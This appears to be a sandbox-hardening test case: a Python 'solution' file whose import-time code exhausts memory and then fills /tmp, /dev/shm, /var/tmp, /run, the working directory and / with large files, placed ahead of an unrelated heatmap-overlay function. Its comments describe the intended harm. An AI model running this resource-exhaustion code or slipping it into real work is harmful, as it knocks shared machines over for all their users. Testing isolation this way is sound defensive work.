# attack: allocate 64 GB in steps and write until /tmp, /dev/shm and every other folder are full
# on: solution
# harm: under --trust nothing bounds /tmp and /dev/shm: the disk is full for all; a plain kernel swaps
# %% solution="overlay"
import os

kept = []
for _ in range(64):
    try:
        kept.append(bytearray(1 << 30))
        kept[-1][:: 1 << 18] = b"x" * (1 << 12)  # untouched pages cost nothing
    except MemoryError:
        break
kept.clear()
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd(), "/"):
    for number in range(8):
        try:
            with open(os.path.join(folder, f"hoard{number}"), "wb") as file:
                for _ in range(64):
                    file.write(bytes(1 << 20))
        except OSError:
            break


def overlay(image, heatmap, alpha):
    colours = 255 * colormaps["viridis"](np.asarray(heatmap))[..., :3]
    return ((1 - alpha) * np.asarray(image) + alpha * colours).round().astype(np.uint8)
